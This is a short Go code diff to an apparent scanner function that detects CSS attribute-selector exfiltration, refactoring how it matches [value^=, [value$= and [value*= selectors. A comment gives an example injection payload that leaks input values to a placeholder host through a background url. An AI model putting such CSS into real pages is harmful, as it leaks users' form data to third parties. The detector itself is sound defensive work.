@@ -113,8 +113,9 @@ func leaks(css []byte) bool {
 // rules finds rules that ask a foreign host by what fields hold, where a value goes on with a style
 // sheet: }input[value^=k]{background:url(//h.example/k)}
 func rules(data []byte, best *evidence.Tally) {
-	i, _ := lex.First(data[:min(len(data), maxStyle)], []string{"[value^=", "[value$=", "[value*="})
-	if i < 0 || best.Score() >= evidence.Threshold {
+	const selector = "[value"
+	i := lex.Index(data[:min(len(data), maxStyle)], selector)
+	if i < 0 || best.Score() >= evidence.Threshold || lex.PrefixLength(data[i+len(selector):], []string{"^=", "$=", "*="}) == 0 {
 		return
 	}
 	brace := bytes.IndexByte(data[i:min(len(data), i+maxStyle)], '{')
